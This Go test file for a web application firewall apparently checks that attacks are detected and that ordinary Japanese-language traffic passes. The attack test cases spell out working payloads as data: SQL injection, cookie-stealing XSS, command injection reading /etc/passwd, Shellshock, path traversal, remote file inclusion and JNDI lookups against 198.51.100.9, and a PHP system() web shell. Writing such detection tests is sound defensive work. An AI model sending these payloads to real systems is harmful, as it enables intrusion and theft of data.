package ruleset

import (
	"strings"
	"testing"

	"github.com/sekisho-waf/sekisho"
)

const boundary = "----WebKitFormBoundary7MA4YWxkTrZu0gW"

func multipart(parts ...string) *sekisho.Exchange {
	var body strings.Builder
	for _, part := range parts {
		body.WriteString("--" + boundary + "\r\n" + part + "\r\n")
	}
	body.WriteString("--" + boundary + "--\r\n")
	return post("multipart/form-data; boundary="+boundary, body.String())
}

func formPart(name, value string) string {
	return `Content-Disposition: form-data; name="` + name + "\"\r\n\r\n" + value
}

func filePart(name, file, content string) string {
	return `Content-Disposition: form-data; name="` + name + `"; filename="` + file + "\"\r\nContent-Type: application/octet-stream\r\n\r\n" + content
}

const form = "application/x-www-form-urlencoded"

func TestRequest_findsAttacksWhereverTheyAre(t *testing.T) {
	tests := []struct {
		name   string
		x      *sekisho.Exchange
		family string
		class  sekisho.Class
	}{
		{"SQL injection in the query", exchange("GET", "/items?id=1%27%20UNION%20SELECT%20name%2Cpass%20FROM%20users--%20-"), "sqli", sekisho.ClassWAFAttack},
		{"SQL injection in a form", post(form, "id=1'+OR+'1'%3D'1'+UNION+SELECT+1,2,3--+-&name=taro"), "sqli", sekisho.ClassWAFAttack},
		{"SQL injection in JSON", post("application/json", `{"user":{"id":"1' UNION SELECT name,pass FROM users-- -"}}`), "sqli", sekisho.ClassWAFAttack},
		{"SQL injection in a cookie", withHeader(exchange("GET", "/"), "Cookie", "lang=1' UNION SELECT name,pass FROM users-- -"), "sqli", sekisho.ClassWAFAttack},
		{"SQL injection in XML", post("application/xml", `<?xml version="1.0"?><q><id>1' UNION SELECT name,pass FROM users-- -</id></q>`), "sqli", sekisho.ClassWAFAttack},
		{"SQL injection in a multipart field", multipart(formPart("id", "1' UNION SELECT name,pass FROM users-- -")), "sqli", sekisho.ClassWAFAttack},
		{"cross-site scripting in the query", exchange("GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"), "xss", sekisho.ClassWAFAttack},
		{"cross-site scripting inside Japanese", post(form, "message=%E3%81%93%E3%82%93%E3%81%AB%E3%81%A1%E3%81%AF<img+src%3Dx+onerror%3Dalert(1)>%E3%82%88%E3%82%8D%E3%81%97%E3%81%8F"), "xss", sekisho.ClassWAFAttack},
		{"cross-site scripting in a header", withHeader(exchange("GET", "/"), "User-Agent", "<script>alert(document.cookie)</script>"), "xss", sekisho.ClassWAFAttack},
		{"command injection", exchange("GET", "/ping?host=127.0.0.1;cat%20/etc/passwd"), "rce", sekisho.ClassWAFAttack},
		{"shellshock in a header", withHeader(exchange("GET", "/cgi-bin/a"), "X-A", "() { :; }; /bin/bash -c 'id'"), "rce", sekisho.ClassWAFAttack},
		{"path traversal", exchange("GET", "/download?file=../../../../../../etc/passwd"), "lfi", sekisho.ClassWAFAttack},
		{"remote file inclusion", exchange("GET", "/index.php?page=http://198.51.100.9/shell.txt?"), "rfi", sekisho.ClassWAFAttack},
		{"PHP code", post(form, "c=<?php+system($_GET['c']);+?>"), "php", sekisho.ClassWAFAttack},
		{"Java deserialisation", post("application/json", `{"x":"${jndi:ldap://198.51.100.9/a}"}`), "java", sekisho.ClassWAFAttack},
		{"prototype pollution", post("application/json", `{"a":"constructor.constructor(\"return process\")().mainModule.require('child_process').execSync('id')"}`), "generic", sekisho.ClassWAFAttack},
		{"session fixation", sessionFixation(), "session_fixation", sekisho.ClassWAFAttack},
		{"uploaded PHP program", multipart(filePart("image", "a.php", "<?php echo 1;")), "web_shell", sekisho.ClassWebShell},
		{"header injection", exchange("GET", "/?lang=ja%0d%0aSet-Cookie:%20a=b"), "protocol", sekisho.ClassWAFAttack},
		{"scanner", withHeader(noAgent(exchange("GET", "/")), "User-Agent", "sqlmap/1.8#stable (https://sqlmap.org)"), "scanner", sekisho.ClassScan},
		{"backup file", exchange("GET", "/index.php.bak"), "protocol", sekisho.ClassScan},
		{"method that no site offers", exchange("DEBUG", "/"), "method", sekisho.ClassNoise},
		{"body that is not JSON", post("application/json", `{"a":`), "protocol", sekisho.ClassNoise},
	}
	policy := sekisho.DefaultPolicy()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var detected sekisho.Verdict
			bothModes(t, policy, func(t *testing.T, e *Engine) {
				v := inspect(t, e, tt.x)
				if !v.Attack {
					t.Fatalf("no attack found; score %d, matches %v", v.Score, v.Matches)
				}
				if v.Class != tt.class || v.Family != tt.family {
					t.Errorf("got class %s, family %s, want %s, %s; matches %v", v.Class, v.Family, tt.class, tt.family, v.Matches)
				}
				if len(v.Matches) == 0 {
					t.Error("got no matches")
				}
				if e.mode == sekisho.ModeDetect {
					detected = v
				} else if detected.Score < v.Score {
					t.Errorf("got a score of %d in detect mode, want at least block mode's %d", detected.Score, v.Score)
				}
			})
		})
	}
}

// sessionFixation is a link on another site that brings its own session with it.
func sessionFixation() *sekisho.Exchange {
	x := exchange("GET", "/?PHPSESSID=abcdef0123456789")
	for i := range x.Header {
		if x.Header[i].Name == "Referer" {
			x.Header[i].Value = "https://attacker.example/"
		}
	}
	return x
}

func noAgent(x *sekisho.Exchange) *sekisho.Exchange {
	x.Header = x.Header[1:]
	return x
}

func TestRequest_passesOrdinaryTraffic(t *testing.T) {
	tests := []struct {
		name string
		x    *sekisho.Exchange
	}{
		{"page", exchange("GET", "/")},
		{"asset", exchange("GET", "/assets/app.3f2a1b.js?v=20260102")},
		{"search in Japanese", exchange("GET", "/search?q=%E3%83%8E%E3%83%BC%E3%83%88%E3%83%91%E3%82%BD%E3%82%B3%E3%83%B3+%E4%B8%AD%E5%8F%A4")},
		{"contact form", post(form, "name=%E5%B1%B1%E7%94%B0%E5%A4%AA%E9%83%8E&email=taro%40example.co.jp&tel=03-1234-5678&message=%E8%A6%8B%E7%A9%8D%E3%82%82%E3%82%8A%E3%82%92%E3%81%8A%E9%A1%98%E3%81%84%E3%81%84%E3%81%9F%E3%81%97%E3%81%BE%E3%81%99%E3%80%82")},
		{"JSON API", post("application/json", `{"name":"山田太郎","quantity":3,"note":"よろしくお願いいたします。","items":[1,2,3]}`)},
		{"XML", post("application/xml", `<?xml version="1.0" encoding="UTF-8"?><order id="1"><name>山田</name></order>`)},
		{"upload", multipart(formPart("title", "写真"), filePart("file", "写真.jpg", strings.Repeat("\xff\xd8\xffabc", 2000)))},
		{"cookies", withHeader(exchange("GET", "/mypage"), "Cookie", "lang=ja; _ga=GA1.1.123456789.1700000000; cart=3")},
		{"HTTP/2", func() *sekisho.Exchange { x := exchange("GET", "/about"); x.Protocol = "HTTP/2.0"; return x }()},
		{"IPv6 visitor", exchange("GET", "/company/")},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			bothModes(t, sekisho.DefaultPolicy(), func(t *testing.T, e *Engine) {
				if v := inspect(t, e, tt.x); v.Attack || v.Score != 0 || len(v.Matches) != 0 || v.Family != "" || v.Class != "" {
					t.Errorf("got %+v, want a clean verdict", v)
				}
			})
		})
	}
}
